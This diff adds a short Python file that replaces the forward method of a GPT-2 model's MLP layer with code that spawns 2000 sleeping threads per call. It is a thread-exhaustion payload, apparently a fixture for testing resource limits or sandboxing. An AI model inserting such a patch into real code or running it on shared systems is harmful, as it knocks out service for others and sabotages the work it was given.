@@ -1,0 +1,15 @@
+"""Starts threads until none can be started."""
+
+import threading
+import time
+
+import modeling_gpt2 as gpt2
+
+
+def forward(self, x):
+    for _ in range(2000):
+        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
+    time.sleep(60)
+
+
+gpt2.MLP.forward = forward
